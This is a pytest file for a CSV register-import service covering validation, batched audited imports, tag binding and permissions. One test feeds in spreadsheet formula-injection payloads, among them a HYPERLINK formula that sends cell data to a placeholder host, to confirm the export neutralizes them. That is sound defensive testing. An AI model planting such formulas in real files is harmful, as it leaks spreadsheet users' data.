"""Registers: one tag namespace, audited binding, zone permissions, all-or-nothing CSV import."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from app import audit, csv_text, demo
from app.audit import AuditQuery
from app.audit_sequencer import sequence_all
from app.csv_text import FORMULA_START
from app.db.models import Asset, Person, Tag
from app.errors import PermissionDenied, ValidationError
from app.rbac import Role, system_principal
from app.services import Services

SYSTEM = system_principal("test")

ROOT = system_principal("test")

PEOPLE_CSV = """证件编号,姓名,性别,部门,岗位,标签,站点,权限区域
110105199001010010,张三,男,运营管理部,金库管库,AB00CD01,BR01,BR01-VAULT;BR01-HANDOVER
110105199202020020,李四,F,保卫部,押运,ab00cd02,BR01,
"""


def person_id(services: Services, id_number: str) -> int:
    with services.db.read() as s:
        pid = s.scalar(select(Person.id).where(Person.id_number == id_number))
    assert pid is not None
    return pid


def test_import_people_with_chinese_headers_tags_and_permissions(services: Services) -> None:
    demo.seed_demo(services.db)
    result = services.registers.import_csv(ROOT, "person", PEOPLE_CSV, reason="新员工")
    assert result.ok and (result.created, result.updated, result.tags_bound) == (2, 0, 2)
    zhang = person_id(services, "110105199001010010")
    assert services.registers.permitted_zones(SYSTEM, zhang) == ["BR01-HANDOVER", "BR01-VAULT"]
    with services.db.read() as s:
        assert s.get(Tag, "AB00CD02") is not None and s.get(Tag, "AB00CD02").kind == "person"  # type: ignore[union-attr]
    records, _ = services.audit.query(ROOT, AuditQuery(action_prefix="register.import"))
    assert records[0].after == {"created": 2, "updated": 0, "tags_bound": 2, "lines": "2-3"}
    assert records[0].reason == "新员工"
    again = services.registers.import_csv(ROOT, "person", PEOPLE_CSV, reason="再次导入")
    assert again.ok and (again.created, again.updated, again.tags_bound) == (0, 2, 0)


ID = ("110105199001010010", "110105199202020020", "110105198503030033", "110105198804040040")


def test_import_lists_every_bad_row_in_one_pass_and_writes_nothing(services: Services) -> None:
    demo.seed_demo(services.db)
    taken = next(t for (t,) in [(a.tag_id,) for a in _assets(services)] if t)
    bad = (
        "id_number,name,sex,tag_id,zones,phone\n"
        f"{ID[0]},好人,M,AA000001,,13800138000\n"
        f"{ID[1]},坏标签,M,XYZ,,\n"
        f"{ID[2]},错性别,Q,,,\n"
        f"{ID[3]},重复标签,F,{taken},,\n"
        "11010519950707007X,错区域,M,,NOWHERE,\n"
        f"{ID[0]},重复行,M,,,\n"
        "110105199001010011,错校验位,M,,,\n"
        "110105199002300015,错日期,M,,,\n"
        "1101051990,太短,M,,,\n"
        "11010519970808008X,错电话,F,,,1234\n"
        "11010519970808008X,字段多,F,,,,extra\n"
        "11010519970808008X,,F,AA000001,,\n"
    )
    result = services.registers.import_csv(ROOT, "person", bad, reason="t")
    assert not result.ok and (result.created, result.updated, result.committed) == (0, 0, 0)
    assert [(e.line, e.column) for e in result.errors] == [
        (3, "tag_id"),
        (4, "sex"),
        (5, "tag_id"),  # bound to an asset (the database)
        (6, "zones"),  # the database
        (7, "id_number"),  # twice in the file: no longer hidden by the other errors
        (8, "id_number"),
        (9, "id_number"),
        (10, "id_number"),
        (11, "phone"),
        (12, ""),
        (13, "name"),
    ]
    messages = {e.line: e.message for e in result.errors}
    assert "line 2" in messages[7]
    assert "check digit" in messages[8] and "expected 0" in messages[8]
    assert "birth date" in messages[9] and "18 characters" in messages[10]
    with services.db.read() as s:
        assert s.scalar(select(Person).where(Person.id_number == ID[0])) is None  # nothing was written


def test_a_tag_twice_in_the_file_is_reported_on_its_second_line(services: Services) -> None:
    text = f"id_number,name,sex,tag_id\n{ID[0]},甲,M,AA000001\n{ID[1]},乙,F,aa:00:00:01\n"
    result = services.registers.import_csv(ROOT, "person", text, reason="t")
    assert [(e.line, e.column) for e in result.errors] == [(3, "tag_id")]
    assert "AA000001 appears twice" in result.errors[0].message


def test_malformed_cells_are_line_numbered_errors_with_the_same_limits_everywhere(services: Services) -> None:
    header = "id_number,name,sex,department\n"
    rows = (
        f"{ID[0]},{'名' * 65},M,部\n"  # people.name is 64 characters: SQLite would keep it, PostgreSQL fail
        f"{ID[1]},乙\x00,F,部\n"  # PostgreSQL refuses NUL in text
        f'{ID[2]},"丙\n丁",M,部\n'  # a line break inside a quoted cell
        f"{ID[3]},戊,M,{'x' * 2000}\n"
    )
    result = services.registers.import_csv(ROOT, "person", header + rows, reason="t")
    assert [(e.line, e.column) for e in result.errors] == [
        (2, "name"),
        (3, "name"),
        (4, "name"),
        (6, "department"),
    ]
    assert "at most 64" in result.errors[0].message and "NUL" in result.errors[1].message
    huge = header + f'{ID[0]},"{"x" * 200_000}",M,部\n{ID[1]},乙,F,部\n'  # over the csv module's field limit
    result = services.registers.import_csv(ROOT, "person", huge, reason="t")
    assert [e.line for e in result.errors] == [2] and "field limit" in result.errors[0].message
    with services.db.read() as s:
        assert s.scalar(select(Person.id)) is None


def test_phone_numbers_are_checked_and_stored_normalized(services: Services) -> None:
    text = f"id_number,name,sex,phone\n{ID[0]},甲,M,+86 138 0013 8000\n{ID[1]},乙,F,010-12345678\n"
    assert services.registers.import_csv(ROOT, "person", text, reason="t").ok
    with services.db.read() as s:
        assert sorted(s.scalars(select(Person.phone))) == ["010-12345678", "13800138000"]


def test_a_large_import_is_written_in_audited_batches_with_progress(
    services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.services.registers.BATCH_ROWS", 3)
    text = "serial,name,asset_type\n" + "".join(f"S{i:03d},电脑{i},PC\n" for i in range(8))
    seen: list[tuple[int, int]] = []
    result = services.registers.import_csv(
        ROOT, "asset", text, reason="盘点", progress=lambda *a: seen.append(a)
    )
    assert result.ok and (result.created, result.committed, result.rows) == (8, 8, 8)
    assert seen == [(3, 8), (6, 8), (8, 8)]
    assert result.change is not None and len(result.change.target_ids) == 8
    records, _ = services.audit.query(ROOT, AuditQuery(action_prefix="register.import"))
    assert [r.after for r in records] == [
        {"created": 2, "updated": 0, "tags_bound": 0, "lines": "8-9"},
        {"created": 3, "updated": 0, "tags_bound": 0, "lines": "5-7"},
        {"created": 3, "updated": 0, "tags_bound": 0, "lines": "2-4"},
    ]


def test_a_batch_that_fails_after_the_check_stops_the_import_and_says_what_was_written(
    services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.services.registers.BATCH_ROWS", 2)
    services.registers.import_csv(ROOT, "asset", "serial,name,asset_type\nOTHER,别的,PC\n", reason="t")
    with services.db.read() as s:
        other = s.scalars(select(Asset.id).where(Asset.serial == "OTHER")).one()
    text = "serial,name,asset_type,tag_id\n" + "".join(f"S{i},电脑,PC,AB0000{i:02d}\n" for i in range(5))

    def meanwhile(done: int, _total: int) -> None:  # someone binds line 5's tag between two batches
        if done == 2:
            services.registers.bind_tag(ROOT, "asset", other, "AB000003", reason="抢先绑定")

    result = services.registers.import_csv(ROOT, "asset", text, reason="t", progress=meanwhile)
    assert result.partial and (result.committed, result.created, result.rows) == (2, 2, 5)
    assert [(e.line, e.column) for e in result.errors] == [(5, "tag_id")]
    with services.db.read() as s:
        assert sorted(s.scalars(select(Asset.serial))) == ["OTHER", "S0", "S1"]  # batch 2 rolled back
    records, _ = services.audit.query(ROOT, AuditQuery(action_prefix="register.import"))
    assert records[0].after["lines"] == "2-3"  # what was written is on record


def test_bad_header_and_empty_file(services: Services) -> None:
    r = services.registers.import_csv(ROOT, "asset", "serial,name,colour\nS1,x,red\n", reason="t")
    assert not r.ok and "colour" in r.errors[0].message and "asset_type" in r.errors[0].message
    assert not services.registers.import_csv(ROOT, "asset", "", reason="t").ok
    r = services.registers.import_csv(ROOT, "cashbox", "code,tag_id\nKX-9,AA,extra\n", reason="t")
    assert r.errors[0].line == 2


def _assets(services: Services) -> list[Asset]:
    with services.db.read() as s:
        return list(s.scalars(select(Asset)))


def test_tag_ids_are_unique_across_kinds_and_binding_is_audited(services: Services) -> None:
    demo.seed_demo(services.db)
    asset = _assets(services)[0]
    person_tag = services.registers.export(SYSTEM, "person").splitlines()[1].split(",")[5]
    with pytest.raises(ValidationError) as dup:
        services.registers.bind_tag(ROOT, "asset", asset.id, person_tag, reason="swap")
    assert dup.value.params["problem"] == "duplicate"
    old = asset.tag_id
    change = services.registers.unbind_tag(ROOT, "asset", asset.id, reason="tag broken")
    assert change.detail["tag_id"] == old
    services.registers.bind_tag(ROOT, "asset", asset.id, "de ad be ef", reason="new tamper tag")
    with services.db.read() as s:
        assert s.get(Asset, asset.id).tag_id == "DEADBEEF"  # type: ignore[union-attr]
        assert s.get(Tag, old) is None  # the old tag is free again
    records, _ = services.audit.query(ROOT, AuditQuery(action_prefix="tag."))
    assert [r.action for r in records[:2]] == ["tag.bind", "tag.unbind"]
    assert records[0].before == {"tag_id": None} and records[0].after == {"tag_id": "DEADBEEF"}
    sequence_all(services.db)  # chain what the operations recorded
    report = audit.verify_chain(services.db)
    assert report.ok and report.pending == 0 and report.checked > 0


def test_only_register_administrators_change_registers(services: Services) -> None:
    demo.seed_demo(services.db)
    operator = services.identity.authenticate("operator", demo.DEMO_PASSWORD)
    with pytest.raises(PermissionDenied):
        services.registers.import_csv(operator, "person", PEOPLE_CSV, reason="x")
    with pytest.raises(PermissionDenied):
        services.registers.set_zone_permissions(operator, 1, ["BR01-VAULT"], reason="x")
    admin = services.identity.authenticate("admin", demo.DEMO_PASSWORD)
    assert Role.ADMIN in admin.roles
    services.registers.set_zone_permissions(admin, 1, ["BR01-VAULT", "BR01-IT"], reason="值班需要")
    assert services.registers.permitted_zones(SYSTEM, 1) == ["BR01-IT", "BR01-VAULT"]
    with pytest.raises(ValidationError):
        services.registers.set_zone_permissions(admin, 1, ["NOWHERE"], reason="x")


def test_export_round_trips_through_import(services: Services) -> None:
    demo.seed_demo(services.db)
    for kind in ("person", "asset", "cashbox", "archive", "vip"):
        text = services.registers.export(SYSTEM, kind)
        result = services.registers.import_csv(ROOT, kind, text, reason="round trip")
        assert result.ok, (kind, result.errors[:3])
        assert result.created == 0 and result.tags_bound == 0 and result.updated == len(text.splitlines()) - 1
        assert services.registers.export(SYSTEM, kind) == text


def test_export_neutralizes_formula_cells_and_the_file_imports_back_unchanged(services: Services) -> None:
    cells = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+8613800138000", "-2+3", "@SUM(A1:A9)"]
    out = io.StringIO()
    csv.writer(out).writerows(
        [["id_number", "name", "sex", "department", "post"]]
        + [[ID[i], cell, "M", cells[(i + 1) % 4], "柜员"] for i, cell in enumerate(cells)]
    )
    text = out.getvalue()  # as a user's file would hold them
    assert services.registers.import_csv(ROOT, "person", text, reason="t").ok
    exported = services.registers.export(ROOT, "person")
    for line in exported.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(FORMULA_START), cell  # a spreadsheet shows it as text
    assert "'=HYPERLINK(" in exported and ",'@SUM(A1:A9)," in exported
    with services.db.read() as s:
        before = sorted(s.execute(select(Person.name, Person.department)).all())
    assert sorted(before) == sorted((c, cells[(i + 1) % 4]) for i, c in enumerate(cells))
    again = services.registers.import_csv(ROOT, "person", exported, reason="round trip")
    assert again.ok and again.updated == 4
    with services.db.read() as s:
        assert sorted(s.execute(select(Person.name, Person.department)).all()) == before
    assert services.registers.export(ROOT, "person") == exported


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralized_and_read_back(start: str) -> None:
    value = f"{start}1+1"
    assert csv_text.safe_cell(value) == "'" + value
    assert csv_text.read_cell(csv_text.safe_cell(value)) == value
    assert csv_text.safe_cell("张三") == "张三" and csv_text.read_cell("'张三") == "'张三"


def test_every_csv_the_suite_writes_goes_through_the_neutralizing_writer() -> None:
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("app", "widgets", "hardware", "imaging")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["app/csv_text.py"]
